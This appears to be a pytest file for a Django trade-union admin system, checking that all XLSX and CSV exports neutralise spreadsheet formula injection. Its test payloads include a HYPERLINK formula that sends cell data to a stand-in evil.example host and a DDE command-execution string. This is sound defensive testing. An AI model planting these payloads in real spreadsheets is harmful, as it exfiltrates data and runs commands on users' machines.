"""Every XLSX the project produces writes user text as text: zero formula cells.

The probe found station names like `=HYPERLINK(...)` coming out of the stations export as
live formulas, and uploaded cells echoed in the roster problem-rows file (24 formula cells
in one file). This test feeds hostile text into every export and opens the results with
openpyxl; a route added later that serves an .xlsx fails `test_every_xlsx_route_is_tested`
until it is added here, and a module that builds a workbook itself fails
`test_only_core_xlsx_builds_workbooks`.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from gonghui.core.xlsx import XlsxWriter, is_formula_like
from tests.factories import Tree
from tests.roster.helpers import HEADER, csv_bytes, upload, xlsx_bytes
from tests.security.urlwalk import all_paths
from tests.stations.helpers import make_station

pytestmark = pytest.mark.django_db

SRC = Path(__file__).resolve().parents[2] / "src" / "gonghui"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]
TESTED_ROUTES = {
    "console:stations:export", "console:members:roster_template", "console:members:roster_bad_rows",
    "console:members:people_export", "console:stats:export", "console:assistance:statement_export",
    "console:assistance:batch_file", "console:mutualaid:enrolment_export", "console:mutualaid:report_export",
    "console:campaigns:winners_export", "console:jobs:placements_export", "console:jobs:services_export",
    "console:jobs:fair_export", "console:skills:selection_export", "console:skills:laureates_export",
}
# CSV exports, tested below in the same way (formula triggers made inert).
CSV_ROUTES = {"console:assistance:batch_file_csv"}


def _formula_cells(content: bytes) -> list[tuple[str, str, object]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and is_formula_like(cell.value)
                                             and not cell.quotePrefix):
                    found.append((sheet.title, cell.coordinate, cell.value))
    return found


def _texts(content: bytes) -> set[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_stations_export_keeps_hostile_names_as_text(client):
    tree = Tree()
    for index, text in enumerate(HOSTILE):
        make_station(union=tree.city_a, name=f"{text}{index}"[:60], address=text)
    client.force_login(tree.staff_a)
    response = client.get(reverse("console:stations:export"))
    assert response.status_code == 200
    content = _body(response)
    assert _formula_cells(content) == []
    assert HOSTILE[0] in _texts(content)  # the value itself is unchanged, only neutralised


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_roster_problem_rows_file_keeps_uploaded_cells_as_text(client, django_capture_on_commit_callbacks, file_format):
    tree = Tree()
    rows = [[text] * len(HEADER) for text in HOSTILE]
    content = csv_bytes(rows) if file_format == "csv" else xlsx_bytes(rows)
    from gonghui.members.services import roster_import_create

    with django_capture_on_commit_callbacks(execute=True):
        job = roster_import_create(actor=tree.staff_a, union_id=tree.grassroots_a.pk,
                                   upload=upload(content, f"roster.{file_format}"))
    job.refresh_from_db()
    # An uploaded xlsx's own "=…" cells are formulas with no cached value: they read as
    # empty, so only the csv file has every hostile row.
    assert job.error_rows == len(HOSTILE) if file_format == "csv" else job.error_rows >= 4
    client.force_login(tree.staff_a)
    response = client.get(reverse("console:members:roster_bad_rows", args=[job.pk]))
    assert response.status_code == 200
    body = _body(response)
    assert _formula_cells(body) == []
    assert HOSTILE[1] in _texts(body)


def test_member_export_keeps_hostile_names_as_text(client):
    from tests.factories import make_member

    tree = Tree()
    make_member(union=tree.grassroots_a, name="张三")
    member = make_member(union=tree.grassroots_a, name="李四")
    member.person.name = HOSTILE[0]
    member.person.save(update_fields=["name"])
    client.force_login(tree.staff_a)
    content = _body(client.get(reverse("console:members:people_export")))
    assert _formula_cells(content) == []
    assert member.person.name in _texts(content)


def test_ledger_statement_export_keeps_hostile_union_names_as_text(client):
    from gonghui.assistance import services as ledger_services

    tree = Tree()
    tree.county_a.name = HOSTILE[0]
    tree.county_a.save(update_fields=["name"])
    ledger_services.fund_receipt(union=tree.city_a, source="central", amount=1000_00, memo="专项资金")
    ledger_services.fund_allocate(union=tree.city_a, to_union=tree.county_a, source="central", amount=10_00,
                                  memo=HOSTILE[1])
    client.force_login(tree.staff_a)
    from django.utils import timezone

    year = timezone.localdate().year
    response = client.get(reverse("console:assistance:statement_export"),
                          {"union": tree.city_a.pk, "year": year, "month_from": 1, "month_to": 12, "subtree": "on"})
    content = _body(response)
    assert _formula_cells(content) == []
    assert HOSTILE[0] in _texts(content)


def test_payment_batch_file_keeps_hostile_payee_names_and_memos_as_text(client):
    from gonghui.assistance import payouts
    from gonghui.assistance import services as ledger_services

    tree = Tree()
    ledger_services.fund_receipt(union=tree.city_a, source="central", amount=1000_00, memo="专项资金")
    payouts.payout_create(union=tree.city_a, source="central", amount=10_00, payee_name=HOSTILE[0][:60],
                          bank_account="6222021234567890123", memo=HOSTILE[1], idempotency_key="hostile-1")
    batch = payouts.payment_batch_create(union=tree.city_a)
    client.force_login(tree.staff_a)
    content = _body(client.get(reverse("console:assistance:batch_file", args=[batch.pk])))
    assert _formula_cells(content) == []
    assert {HOSTILE[0][:60], HOSTILE[1], "6222021234567890123"} <= _texts(content)


def test_statistics_export_keeps_hostile_union_names_as_text(client, frozen_clock):
    import datetime as dt

    from gonghui.stats.services import snapshot_day
    from tests.cases.helpers import app_case
    from tests.stats.scenario import at

    tree = Tree()
    frozen_clock(at(dt.date(2026, 3, 2), 10))
    tree.county_a.name = HOSTILE[0]
    tree.county_a.save(update_fields=["name"])
    app_case(tree)
    frozen_clock(at(dt.date(2026, 3, 3), 10))
    snapshot_day(dt.date(2026, 3, 2))
    client.force_login(tree.staff_a)
    response = client.get(reverse("console:stats:export"), {"start": "2026-03-01", "end": "2026-03-31",
                                                           "figure": "cases.received"})
    assert response.status_code == 200
    content = _body(response)
    assert _formula_cells(content) == []
    assert HOSTILE[0] in _texts(content)


def test_roster_template_has_no_formula_cells_and_text_id_columns(client):
    tree = Tree()
    client.force_login(tree.staff_a)
    content = client.get(reverse("console:members:roster_template")).content
    assert _formula_cells(content) == []
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet.column_dimensions["B"].number_format == "@"


def test_mutual_aid_exports_keep_hostile_names_as_text(client, frozen_clock):
    """Members' names (the enrolment list) and plan and union names (the loss-ratio report)."""
    import datetime as dt

    from gonghui.members.models import Person
    from gonghui.mutualaid.models import Plan
    from tests.mutualaid.helpers import at, enrol_all, make_plan, members_of

    frozen_clock(at(dt.date(2024, 12, 20)))
    tree = Tree()
    plan = make_plan(union=tree.city_a, actor=tree.staff_a, starts_on=dt.date(2025, 1, 1),
                     ends_on=dt.date(2025, 12, 31), min_participation=0)
    Plan.objects.filter(pk=plan.pk).update(name=HOSTILE[0][:100])
    members = members_of(tree.grassroots_a, len(HOSTILE))
    for member, text in zip(members, HOSTILE, strict=True):
        Person.objects.filter(pk=member.person_id).update(name=text[:50])
    enrolment = enrol_all(plan=plan, union=tree.grassroots_a, actor=tree.staff_a)
    client.force_login(tree.staff_a)
    for response in (client.get(reverse("console:mutualaid:enrolment_export", args=[enrolment.pk])),
                     client.get(reverse("console:mutualaid:report_export"))):
        assert response.status_code == 200
        content = _body(response)
        assert _formula_cells(content) == []
        assert HOSTILE[0][:50] in _texts(content) or HOSTILE[0][:100] in _texts(content)


def test_jobs_exports_keep_hostile_employer_fair_and_union_names_as_text(client):
    """Employer, fair, place and union names are user text in the placements, fair and
    services exports."""
    from gonghui.jobs import services as job_services
    from tests.jobs.helpers import make_posting, make_seeker

    tree = Tree()
    employer = tree.grassroots_a.employer
    employer.name = HOSTILE[0]
    employer.save(update_fields=["name"])
    tree.grassroots_a.name = HOSTILE[1]
    tree.grassroots_a.save(update_fields=["name"])
    seeker = make_seeker()
    application = job_services.application_create(user=seeker.user, posting=make_posting(tree))
    job_services.application_move(actor=tree.staff_a, application=application, to="hired")
    fair = job_services.fair_create(actor=tree.staff_a, union=tree.city_a, name=HOSTILE[2][:60], kind="onsite",
                                    starts_on=job_services.today(), ends_on=job_services.today(), place=HOSTILE[3])
    job_services.fair_booth_add(actor=tree.staff_a, fair=fair, employer=employer, number="=1+1")
    client.force_login(tree.staff_a)
    for name, args in (("console:jobs:placements_export", []), ("console:jobs:services_export", []),
                       ("console:jobs:fair_export", [fair.pk])):
        response = client.get(reverse(name, args=args))
        assert response.status_code == 200, name
        content = _body(response)
        assert _formula_cells(content) == [], name
        assert HOSTILE[0] in _texts(content) or HOSTILE[1] in _texts(content), name


def test_skills_selection_exports_keep_hostile_names_units_and_achievements_as_text(client):
    """Names, units, posts, achievements and union names are user text in the nominations and
    registry exports; the ID numbers come out masked."""
    from gonghui.skills import selection
    from tests.factories import make_id_number
    from tests.skills.helpers import make_selection

    tree = Tree()
    item = make_selection(tree=tree, quotas=[(tree.county_a, len(HOSTILE))])
    numbers = []
    for i, text in enumerate(HOSTILE):
        numbers.append(make_id_number())
        selection.nomination_submit(actor=tree.staff_a, selection=item, union=tree.grassroots_a, name=text[:40],
                                    id_number=numbers[-1], unit_name=text[:80], post=text[:60],
                                    achievements=(text + "，长期扎根一线，攻克多项技术难题，成绩突出。" * 2)[:8000])
        selection.laureate_register(actor=tree.staff_a, union=tree.grassroots_a, name=text[:40], id_number=make_id_number(),
                                    kind="craftsman", title=text[:40], level="city", year=2020 + i % 5,
                                    unit_name=text[:80], awarding_body=text[:80])
    client.force_login(tree.staff_a)
    for name, args in (("console:skills:selection_export", [item.pk]), ("console:skills:laureates_export", [])):
        response = client.get(reverse(name, args=args))
        assert response.status_code == 200, name
        content = _body(response)
        assert _formula_cells(content) == [], name
        texts = _texts(content)
        assert HOSTILE[0] in texts, name
        assert not any(number in texts for number in numbers), name


def test_safe_writer_neutralises_every_trigger_and_keeps_numbers_typed():
    writer = XlsxWriter()
    sheet = writer.sheet("t")
    sheet.append([*HOSTILE, "#N/A", 42, -3.5, None, "正常文本"])
    content = writer.to_bytes()
    assert _formula_cells(content) == []
    row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
    assert [c.data_type for c in row[: len(HOSTILE) + 1]] == ["s"] * (len(HOSTILE) + 1)
    assert (row[len(HOSTILE) + 1].value, row[len(HOSTILE) + 2].value) == (42, -3.5)


def test_every_xlsx_route_is_tested():
    from django.urls import get_resolver

    def names(patterns, namespace=""):
        for entry in patterns:
            if hasattr(entry, "url_patterns"):
                inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
                yield from names(entry.url_patterns, inner)
            elif ".xlsx" in str(entry.pattern) or "export" in str(entry.pattern):
                yield f"{namespace}{entry.name}"

    assert set(names(get_resolver().url_patterns)) == TESTED_ROUTES
    assert any(p.endswith(".xlsx") for p in all_paths())


def test_only_core_xlsx_builds_workbooks():
    offenders = []
    for path in SRC.rglob("*.py"):
        if path == SRC / "core" / "xlsx.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\s*\(|WriteOnlyCell|import\s+xlsxwriter|\.to_excel\(", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def test_payment_batch_csv_keeps_hostile_payee_names_and_memos_inert(client):
    """The CSV batch file: UTF-8 with BOM; a cell that starts with a formula trigger starts with
    an apostrophe instead, so no spreadsheet program runs it."""
    import csv

    from gonghui.assistance import payouts
    from gonghui.assistance import services as ledger_services

    tree = Tree()
    ledger_services.fund_receipt(union=tree.city_a, source="central", amount=1000_00, memo="专项资金")
    for i, text in enumerate(HOSTILE):
        payouts.payout_create(union=tree.city_a, source="central", amount=10_00, payee_name=text[:60],
                              bank_account="6222021234567890123", memo=text, idempotency_key=f"hostile-csv-{i}")
    batch = payouts.payment_batch_create(union=tree.city_a)
    client.force_login(tree.staff_a)
    content = _body(client.get(reverse("console:assistance:batch_file_csv", args=[batch.pk])))
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["流水号", "户名", "账号", "金额（元）", "开户行", "摘要"]
    stored = [line.payout for line in batch.lines.select_related("payout").order_by("seq")]
    for row, payout in zip(rows[1:-1], stored, strict=True):
        assert row[1] == "'" + payout.payee_name and row[5] == "'" + payout.memo
        assert row[2] == "6222021234567890123" and row[3] == "10.00"
    cells = [cell for row in rows for cell in row]
    assert not any(is_formula_like(cell) for cell in cells)
    assert rows[-1] == ["合计", str(len(HOSTILE)), "", f"{len(HOSTILE) * 10}.00", "", ""]


def test_campaign_winners_export_keeps_hostile_prize_names_and_addresses_as_text(client):
    from gonghui.campaigns import services as campaign_services
    from gonghui.campaigns.models import Prize
    from tests.campaigns.helpers import campaign_winner_for
    from tests.factories import make_worker_user

    tree = Tree()
    worker = make_worker_user(name=HOSTILE[2])
    winner = campaign_winner_for(union=tree.city_a, user=worker)
    Prize.objects.filter(pk=winner.prize_id).update(name=HOSTILE[0][:40])
    campaign_services.winner_claim(winner=winner, user=worker, method="address", address=HOSTILE[6])
    client.force_login(tree.staff_a)
    content = _body(client.get(reverse("console:campaigns:winners_export", args=[winner.draw.campaign_id])))
    assert _formula_cells(content) == []
    assert {HOSTILE[0][:40], HOSTILE[2], HOSTILE[6]} <= _texts(content)
